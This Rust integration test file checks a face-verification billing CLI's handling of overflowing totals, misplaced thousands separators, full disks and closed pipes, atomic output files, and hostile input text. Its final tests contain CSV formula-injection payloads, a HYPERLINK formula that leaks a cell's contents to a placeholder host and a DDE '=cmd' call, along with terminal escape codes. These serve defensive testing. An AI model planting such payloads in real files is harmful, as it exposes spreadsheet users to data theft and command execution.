//! What the command promises, end to end: no total is ever wrong silently (sums that pass
//! the range of amounts or counts are errors naming the account and label), amounts mean
//! what they say (thousands separators only where they belong), and a full or closed
//! standard output is handled by every command (a closed pipe ends it quietly, a full disk
//! is an error).
//!
//! `FACEID_RULES_BIN` runs these tests against another build of the command (e.g. an
//! older release, to see them fail there).

use std::path::Path;
use std::process::{Command, Output, Stdio};

mod common;
use common::Scratch;

fn bin() -> Command {
    match std::env::var_os("FACEID_RULES_BIN") {
        Some(path) => Command::new(path),
        None => Command::new(env!("CARGO_BIN_EXE_faceid-rules")),
    }
}

fn run(args: &[&str]) -> Output {
    bin()
        .args(args)
        .stdin(Stdio::null())
        .output()
        .expect("the binary runs")
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn write(dir: &Path, name: &str, text: &str) -> String {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path.to_str().unwrap().to_owned()
}

/// `args` run with standard input empty and the streams given.
fn run_with(args: &[&str], out: impl Into<Stdio>, err: impl Into<Stdio>) -> Output {
    bin()
        .args(args)
        .stdin(Stdio::null())
        .stdout(out)
        .stderr(err)
        .output()
        .expect("the binary runs")
}

/// A disk that is full: every write fails with ENOSPC.
fn full_disk() -> std::fs::File {
    std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .expect("/dev/full")
}

/// A pipe whose reader is gone: every write fails with EPIPE, as under `| head -0`.
fn closed_pipe() -> std::io::PipeWriter {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    writer
}

/// A small valid call log of the legacy edition.
const CALLS: &str = "time,channel,code\n\
    2026-10-01T09:00:00+08:00,活体人脸核身 API,Success\n\
    2026-10-02T09:00:00+08:00,活体人脸核身 API,Success\n";

// ---------------------------------------------------------------------------------------
// No total is ever wrong silently.

#[test]
fn a_total_spend_past_the_range_of_amounts_is_an_error_naming_the_account() {
    let d = Scratch::new("rel-spend-overflow");
    // Each account's spend fits (10^10 calls at ¥5,000,000 is 5 × 10^18 fen, under the
    // 9.2 × 10^18 of i64), the two together do not: the total wrapped to
    // -¥84,467,440,737,095,516.16.
    let usage = write(
        &d,
        "usage.csv",
        "account,day,channel,source,code,calls\n\
         a,2026-10-01,活体人脸核身 API,,Success,10000000000\n\
         b,2026-10-01,活体人脸核身 API,,Success,10000000000\n",
    );
    let o = run(&[
        "bill",
        "--usage",
        &usage,
        "--edition",
        "legacy",
        "--contract-price",
        "活体人脸核身=5000000",
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(!stdout(&o).contains("total spend"), "{}", stdout(&o));
    let err = stderr(&o);
    assert!(
        err.contains(r#"account "b", 2026-10"#) && err.contains("beyond the range of amounts"),
        "{err}"
    );
}

#[test]
fn an_amount_past_the_range_names_the_account_and_label() {
    let d = Scratch::new("rel-amount-overflow");
    let usage = write(
        &d,
        "usage.csv",
        "account,day,channel,source,code,calls\n\
         a,2026-10-01,活体人脸核身 API,,Success,10000000000\n",
    );
    let o = run(&[
        "bill",
        "--usage",
        &usage,
        "--edition",
        "legacy",
        "--contract-price",
        "活体人脸核身=500000000",
    ]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(
        err.contains(r#"account "a", 2026-10: the amount of 活体人脸核身"#),
        "{err}"
    );
}

#[test]
fn calls_past_the_largest_count_are_an_error_not_a_wrapped_count() {
    let d = Scratch::new("rel-count-overflow");
    // 20,020 rows of 10^15 calls on distinct keys: 2 × 10^19 calls, past u64::MAX. The
    // summary said 1,573,255,926,290,448,384 calls read.
    let mut text = String::from("account,day,channel,source,code,calls\n");
    for day in 1..=28 {
        for code in 0..715 {
            text += &format!(
                "a,2026-10-{day:02},活体人脸核身 API,,{},1000000000000000\n",
                10_000 + code
            );
        }
    }
    let usage = write(&d, "usage.csv", &text);
    let o = run(&["bill", "--usage", &usage, "--edition", "legacy"]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    let err = stderr(&o);
    // The calls read are counted as they are read: the row that passes the largest count
    // is named.
    assert!(
        err.contains(&format!("{usage}:18448: field `calls`: 1,000,000,000,000,000 more calls: with this row the calls read add up past")),
        "{err}"
    );
    // One key counted past the largest count: the row that passes it is named.
    let mut text = String::from("account,day,channel,source,code,calls\n");
    for _ in 0..18_447 {
        text += "a,2026-10-01,活体人脸核身 API,,Success,1000000000000000\n";
    }
    let usage = write(&d, "same-key.csv", &text);
    let o = run(&["bill", "--usage", &usage, "--edition", "legacy"]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stderr(&o).contains(&format!("{usage}:18448: field `calls`: ")),
        "{}",
        stderr(&o)
    );
}

// ---------------------------------------------------------------------------------------
// Amounts: thousands separators only between groups of three digits before the point.

#[test]
fn a_misplaced_comma_in_a_contract_price_is_refused() {
    let d = Scratch::new("rel-contract-comma");
    let calls = write(&d, "calls.csv", CALLS);
    for price in ["1,0", "1,,,0", "10,00", "1,000,0"] {
        let o = run(&[
            "bill",
            &calls,
            "--edition",
            "legacy",
            "--contract-price",
            &format!("活体人脸核身={price}"),
        ]);
        assert_eq!(o.status.code(), Some(2), "{price}: {}", stdout(&o));
        assert!(
            stderr(&o).contains("thousands separator out of place"),
            "{price}: {}",
            stderr(&o)
        );
    }
    // Well-placed separators are accepted: 1,000 yuan a call.
    let o = run(&[
        "bill",
        &calls,
        "--edition",
        "legacy",
        "--contract-price",
        "活体人脸核身=1,000",
        "--format",
        "json",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["summary"]["spend"], "2000.00");
    // plan reads its --contract-price through the same parser.
    let o = run(&[
        "plan",
        "--label",
        "银行卡信息核验",
        "--calls",
        "3000000",
        "--contract-price",
        "0,30",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("thousands separator out of place"));
}

#[test]
fn a_misplaced_comma_in_a_pack_price_is_refused() {
    let d = Scratch::new("rel-pack-comma");
    let calls = write(&d, "calls.csv", CALLS);
    let packs = write(
        &d,
        "packs.csv",
        "id,label,size,purchased,kind,price\n\
         p-1,基础版人脸核身(权威库),1000,2026-10-01,purchased,\"1,0\"\n\
         p-2,基础版人脸核身(权威库),1000,2026-10-01,purchased,\"1,000\"\n",
    );
    let o = run(&["bill", &calls, "--edition", "legacy", "--packs", &packs]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    let err = stderr(&o);
    assert!(
        err.contains(&format!(
            "{packs}:2: field `price`: \"1,0\" is not an amount of yuan: a thousands separator out of place"
        )),
        "{err}"
    );
    assert!(!err.contains(":3:"), "1,000 is a price: {err}");
}

// ---------------------------------------------------------------------------------------
// A closed or full standard output, for every command.

/// Every command that writes to standard output, with arguments that make it write.
fn commands(d: &Path) -> Vec<Vec<String>> {
    let calls = write(d, "calls.csv", CALLS);
    let list: &[&[&str]] = &[
        &["bill", &calls, "--edition", "legacy"],
        &["bill", &calls, "--edition", "legacy", "--format", "json"],
        &["bill", &calls, "--edition", "legacy", "--format", "csv"],
        &["usage", &calls, "--edition", "legacy"],
        &["table", "--edition", "legacy"],
        &["table", "--format", "html"],
        &["sql", "--dialect", "sqlite"],
        &["plan", "--label", "银行卡信息核验", "--calls", "100"],
        &[
            "classify",
            "--channel",
            "微信小程序",
            "--source",
            "权威库",
            "--code",
            "0",
        ],
        &["--help"],
        &["bill", "--help"],
        &["--version"],
    ];
    list.iter()
        .map(|args| args.iter().map(|a| a.to_string()).collect())
        .collect()
}

#[test]
fn a_closed_pipe_ends_every_command_quietly() {
    let d = Scratch::new("rel-closed-pipe");
    for args in commands(&d) {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let o = run_with(&args, closed_pipe(), Stdio::piped());
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
        assert_eq!(stderr(&o), "", "{args:?}");
    }
}

#[test]
fn a_full_disk_is_an_error_for_every_command() {
    let d = Scratch::new("rel-full-disk");
    for args in commands(&d) {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let o = run_with(&args, full_disk(), Stdio::piped());
        assert_eq!(o.status.code(), Some(1), "{args:?}: {}", stderr(&o));
        let err = stderr(&o);
        assert!(
            err.starts_with("faceid-rules: ") && err.contains("No space left on device"),
            "{args:?}: {err}"
        );
        assert!(!err.contains("panicked"), "{args:?}: {err}");
    }
}

#[test]
fn an_output_to_a_full_disk_is_an_error_for_every_command() {
    let d = Scratch::new("rel-full-file");
    let calls = write(&d, "calls.csv", CALLS);
    let list: &[&[&str]] = &[
        &["bill", &calls, "--edition", "legacy"],
        &["usage", &calls, "--edition", "legacy"],
        &["table"],
        &["sql"],
        &["plan", "--label", "银行卡信息核验", "--calls", "100"],
        &["classify", "--channel", "银行卡三要素", "--code", "0"],
    ];
    for args in list {
        let o = run(&[args, &["-o", "/dev/full"][..]].concat());
        assert_eq!(o.status.code(), Some(1), "{args:?}: {}", stderr(&o));
        assert!(
            stderr(&o).contains("/dev/full: No space left on device"),
            "{args:?}: {}",
            stderr(&o)
        );
    }
}

// ---------------------------------------------------------------------------------------
// Outputs never destroy inputs, and appear whole or not at all.

/// A call log with one bad line, its packs and accounts files, in `d`.
fn inputs(d: &Path) -> [String; 3] {
    let calls = write(
        d,
        "calls.csv",
        "time,account,channel,source,code\n\
         2026-10-01T09:00:00+08:00,a,微信小程序,权威库,0\n\
         2026-10-02T09:00:00+08:00,a,微信小成序,权威库,0\n",
    );
    let packs = write(
        d,
        "packs.csv",
        "id,account,label,size,purchased,kind\np-1,a,增强版人脸核身(权威库)-微信,1000,2026-10-01,gift\n",
    );
    let accounts = write(d, "accounts.csv", "account,opened\na,2020-01-01\n");
    [calls, packs, accounts]
}

#[test]
fn an_output_that_is_an_input_is_refused_and_the_input_stays_whole() {
    let d = Scratch::new("rel-input-output");
    let [calls, packs, accounts] = inputs(&d);
    let before: Vec<String> = [&calls, &packs, &accounts]
        .iter()
        .map(|p| std::fs::read_to_string(p).unwrap())
        .collect();
    let link = d.join("link.csv");
    std::os::unix::fs::symlink(&packs, &link).unwrap();
    let hard = d.join("hard.csv");
    std::fs::hard_link(&accounts, &hard).unwrap();
    let link = link.to_str().unwrap();
    let hard = hard.to_str().unwrap();
    let bill = |extra: &[&str]| {
        let base = ["bill", &calls, "--packs", &packs, "--accounts", &accounts];
        run(&[&base[..], extra].concat())
    };
    // Each input by its name, through a symbolic link, through a hard link; as --rejects
    // and as -o.
    for (option, target) in [
        ("--rejects", calls.as_str()),
        ("--rejects", packs.as_str()),
        ("--rejects", accounts.as_str()),
        ("--rejects", link),
        ("--rejects", hard),
        ("-o", calls.as_str()),
        ("--output", link),
    ] {
        let o = bill(&[option, target]);
        assert_eq!(
            o.status.code(),
            Some(2),
            "{option} {target}: {}",
            stderr(&o)
        );
        assert!(
            stderr(&o).contains("one of the inputs"),
            "{option} {target}: {}",
            stderr(&o)
        );
    }
    let after: Vec<String> = [&calls, &packs, &accounts]
        .iter()
        .map(|p| std::fs::read_to_string(p).unwrap())
        .collect();
    assert_eq!(before, after, "no input was written");
    // Two outputs that are one file: the rejects would be lost.
    let out = d.join("out.csv");
    let out = out.to_str().unwrap();
    let o = run(&[
        "usage",
        &calls,
        "--accounts",
        &accounts,
        "-o",
        out,
        "--rejects",
        out,
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("give each output its own file"),
        "{}",
        stderr(&o)
    );
    assert!(!Path::new(out).exists());
    // Standard output appended to an input.
    let appended = std::fs::OpenOptions::new()
        .append(true)
        .open(&calls)
        .unwrap();
    let o = bin()
        .args(["bill", &calls, "--accounts", &accounts])
        .stdout(appended)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert_eq!(std::fs::read_to_string(&calls).unwrap(), before[0]);
}

#[test]
fn a_failed_run_leaves_the_old_outputs_whole() {
    let d = Scratch::new("rel-failed-run");
    let [calls, packs, accounts] = inputs(&d);
    let rejects = write(&d, "rejects.csv", "the rejects of an earlier run\n");
    let out = write(&d, "bill.txt", "the bill of an earlier run\n");
    // The bad line is rejected, then billing fails: the pack's label is unknown.
    let bad_packs = write(
        &d,
        "bad-packs.csv",
        "id,account,label,size,purchased,kind\np-1,a,没有这个标签,1000,2026-10-01,gift\n",
    );
    let o = run(&[
        "bill",
        &calls,
        "--packs",
        &bad_packs,
        "--accounts",
        &accounts,
        "--rejects",
        &rejects,
        "-o",
        &out,
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert_eq!(
        std::fs::read_to_string(&rejects).unwrap(),
        "the rejects of an earlier run\n"
    );
    assert_eq!(
        std::fs::read_to_string(&out).unwrap(),
        "the bill of an earlier run\n"
    );
    // Without --rejects the bad line stops the run: -o is left as it was, too.
    let o = run(&["bill", &calls, "--accounts", &accounts, "-o", &out]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(
        std::fs::read_to_string(&out).unwrap(),
        "the bill of an earlier run\n"
    );
    // No temporary file is left behind.
    let names: Vec<String> = std::fs::read_dir(&*d)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(names.iter().all(|n| !n.ends_with(".tmp")), "{names:?}");
    // A run that succeeds replaces both, keeping their permissions.
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&rejects, std::fs::Permissions::from_mode(0o640)).unwrap();
    let o = run(&[
        "bill",
        &calls,
        "--packs",
        &packs,
        "--accounts",
        &accounts,
        "--rejects",
        &rejects,
        "-o",
        &out,
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(std::fs::read_to_string(&rejects)
        .unwrap()
        .starts_with("file,line,field,reason,record\n"));
    assert!(std::fs::read_to_string(&out)
        .unwrap()
        .contains("Summary: 2 calls read"));
    let mode = std::fs::metadata(&rejects).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o640);
}

#[test]
fn two_runs_writing_one_rejects_file_never_tear_it() {
    let d = Scratch::new("rel-concurrent");
    let accounts = write(&d, "accounts.csv", "account,opened\na,2020-01-01\n");
    // Two logs of many bad lines each: a torn file would mix their rows, or cut one.
    let log = |tag: &str| {
        let mut text = String::from("time,account,channel,source,code\n");
        for i in 0..20_000 {
            text += &format!("2026-10-01T09:00:00+08:00,a,{tag}-{i},权威库,0\n");
        }
        text
    };
    let one = write(&d, "one.csv", &log("x"));
    let two = write(&d, "two.csv", &log("y"));
    let rejects = d.join("rejects.csv");
    let rejects = rejects.to_str().unwrap();
    let spawn = |calls: &str| {
        bin()
            .args([
                "bill",
                calls,
                "--accounts",
                &accounts,
                "--rejects",
                rejects,
                "-q",
            ])
            .stdout(Stdio::null())
            .spawn()
            .unwrap()
    };
    for _ in 0..3 {
        let (mut a, mut b) = (spawn(&one), spawn(&two));
        assert!(a.wait().unwrap().success() && b.wait().unwrap().success());
        let text = std::fs::read_to_string(rejects).unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let files: std::collections::BTreeSet<String> =
            reader.records().map(|r| r.unwrap()[0].to_owned()).collect();
        assert_eq!(files.len(), 1, "rows of both runs in one file");
        assert_eq!(text.lines().count(), 20_001, "one run's rejects, whole");
    }
}

#[test]
fn rejects_on_stdout_only_when_the_statements_go_to_a_file() {
    let d = Scratch::new("rel-rejects-stdout");
    let [calls, _, accounts] = inputs(&d);
    let o = run(&["bill", &calls, "--accounts", &accounts, "--rejects", "-"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("--rejects -: standard output carries the output already"));
    assert!(!d.join("-").exists(), "no file named -");
    let out = d.join("bill.txt");
    let out = out.to_str().unwrap();
    let o = run(&[
        "bill",
        &calls,
        "--accounts",
        &accounts,
        "--rejects",
        "-",
        "-o",
        out,
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stdout(&o).starts_with("file,line,field,reason,record\n"));
    assert!(stdout(&o).contains("微信小成序"));
    assert!(std::fs::read_to_string(out).unwrap().contains("1 rejected"));
}

#[test]
fn every_command_writes_to_a_file_with_o_and_says_nothing_with_quiet() {
    let d = Scratch::new("rel-o-quiet");
    let [calls, _, accounts] = inputs(&d);
    let rejects = d.join("r.csv");
    let rejects = rejects.to_str().unwrap();
    let list: Vec<Vec<&str>> = vec![
        vec!["bill"],
        vec![
            "bill",
            &calls,
            "--accounts",
            &accounts,
            "--rejects",
            rejects,
        ],
        vec![
            "usage",
            &calls,
            "--accounts",
            &accounts,
            "--rejects",
            rejects,
        ],
        vec!["table", "--format", "json"],
        vec!["sql", "--dialect", "duckdb"],
        vec!["plan", "--label", "银行卡信息核验", "--calls", "100"],
        vec![
            "classify",
            "--channel",
            "银行卡三要素",
            "--code",
            "0",
            "--at",
            "2026-10-01T00:00:00",
        ],
    ];
    for args in list {
        let to_stdout = run(&args);
        assert!(
            to_stdout.status.success(),
            "{args:?}: {}",
            stderr(&to_stdout)
        );
        let file = d.join("out");
        let file = file.to_str().unwrap();
        let o = run(&[&args[..], &["-o", file, "--quiet"]].concat());
        assert!(o.status.success(), "{args:?}: {}", stderr(&o));
        assert_eq!(stderr(&o), "", "{args:?}: --quiet");
        assert_eq!(stdout(&o), "", "{args:?}: -o");
        assert_eq!(
            std::fs::read_to_string(file).unwrap(),
            stdout(&to_stdout),
            "{args:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// Text from the inputs cannot drive the terminal or a spreadsheet.

fn corpus(name: &str) -> String {
    format!("{}/tests/data/malformed/{name}", env!("CARGO_MANIFEST_DIR"))
}

#[test]
fn escape_codes_and_line_breaks_in_accounts_are_shown_escaped() {
    let o = run(&[
        "bill",
        &corpus("account_escape_codes.csv"),
        "--edition",
        "legacy",
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    let text = stdout(&o);
    assert!(!text.contains('\x1b'), "{text}");
    assert!(
        text.contains("Account \\u{1b}[2J\\u{1b}[H1250000001 · legacy"),
        "{text}"
    );
    assert!(
        text.contains("Account 1250000002\\nSummary: 0 calls read"),
        "{text}"
    );
    let summaries: Vec<&str> = text.lines().filter(|l| l.starts_with("Summary:")).collect();
    assert_eq!(summaries, ["Summary: 2 calls read = 2 billed + 0 not billed + 0 duplicates + 0 rejected; total spend in 2026-10: ¥2.00"]);
    // An error naming such an account escapes it too.
    let o = run(&[
        "bill",
        &corpus("account_escape_codes.csv"),
        "--accounts",
        &corpus("../../../data/sample/accounts.csv"),
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(!stderr(&o).contains('\x1b'), "{}", stderr(&o));
}

#[test]
fn formula_cells_are_guarded_in_every_csv_unless_raw() {
    let d = Scratch::new("rel-formula");
    let calls = corpus("account_formula.csv");
    let accounts_of = |csv_text: &str| -> Vec<String> {
        csv::Reader::from_reader(csv_text.as_bytes())
            .records()
            .map(|r| r.unwrap()[0].to_owned())
            .collect()
    };
    let bill_csv = |extra: &[&str]| {
        let o = run(&[
            &["bill", &calls, "--edition", "legacy", "--format", "csv"][..],
            extra,
        ]
        .concat());
        assert!(o.status.success(), "{}", stderr(&o));
        accounts_of(&stdout(&o))
    };
    assert_eq!(
        bill_csv(&[]),
        [
            "'+1250000001",
            "'-1250000001",
            "'=HYPERLINK(\"http://x.example/?\"&A1)",
            "'@SUM(A1)"
        ]
    );
    assert_eq!(
        bill_csv(&["--raw"]),
        [
            "+1250000001",
            "-1250000001",
            "=HYPERLINK(\"http://x.example/?\"&A1)",
            "@SUM(A1)"
        ]
    );
    // Amounts stay numbers: a negative one would not get a quote (none here), and the
    // unit price and amount are written as they are (then `prices_from`, empty: one price
    // held all month).
    let o = run(&["bill", &calls, "--edition", "legacy", "--format", "csv"]);
    assert!(stdout(&o).lines().nth(1).unwrap().ends_with(",1.00,1.00,"));
    // Usage files are guarded too, and read back as they were.
    let usage = d.join("usage.csv");
    let usage = usage.to_str().unwrap();
    let o = run(&["usage", &calls, "--edition", "legacy", "-o", usage]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        accounts_of(&std::fs::read_to_string(usage).unwrap())[2],
        "'=HYPERLINK(\"http://x.example/?\"&A1)"
    );
    let o = run(&[
        "bill",
        "--usage",
        usage,
        "--edition",
        "legacy",
        "--format",
        "json",
    ]);
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(
        v["accounts"][2]["account"],
        "=HYPERLINK(\"http://x.example/?\"&A1)"
    );
    // A rejected line is a text cell of the rejects file.
    let bad = write(
        &d,
        "bad.csv",
        "time,channel,source,code\n=cmd|' /C calc'!A0,微信小程序,权威库,0\n",
    );
    let rejects = d.join("rejects.csv");
    let rejects = rejects.to_str().unwrap();
    let o = run(&["bill", &bad, "--edition", "legacy", "--rejects", rejects]);
    assert!(o.status.success(), "{}", stderr(&o));
    let text = std::fs::read_to_string(rejects).unwrap();
    let row = csv::Reader::from_reader(text.as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap();
    assert!(row[4].starts_with("'=cmd|"), "{text}");
}

#[test]
fn a_month_without_calls_says_so() {
    let d = Scratch::new("rel-empty-month");
    let calls = write(&d, "calls.csv", CALLS);
    let o = run(&["bill", &calls, "--edition", "legacy", "--month", "2026-09"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stdout(&o).contains(
            "No statements: 2026-09 has no calls, packs or spend (the calls read fall in 2026-10)"
        ),
        "{}",
        stdout(&o)
    );
    let o = run(&[
        "bill",
        &calls,
        "--edition",
        "legacy",
        "--month",
        "2026-09",
        "--format",
        "json",
    ]);
    assert!(
        stderr(&o).contains("no statements: 2026-09 has no calls"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn a_full_or_closed_stderr_never_panics() {
    let d = Scratch::new("rel-stderr");
    let calls = write(&d, "calls.csv", CALLS);
    let bad = write(
        &d,
        "bad.csv",
        "time,channel,code\nnot a time,微信小程序,0\n",
    );
    // A note (usage's counts), an error (a bad line), a usage error.
    for (args, code) in [
        (vec!["usage", calls.as_str(), "--edition", "legacy"], 0),
        (vec!["bill", bad.as_str(), "--edition", "legacy"], 1),
        (vec!["bill", "--no-such-option"], 2),
    ] {
        let o = run_with(&args, Stdio::null(), full_disk());
        assert_eq!(o.status.code(), Some(code), "{args:?}: stderr full");
        let o = run_with(&args, Stdio::null(), closed_pipe());
        assert_eq!(o.status.code(), Some(code), "{args:?}: stderr closed");
    }
}
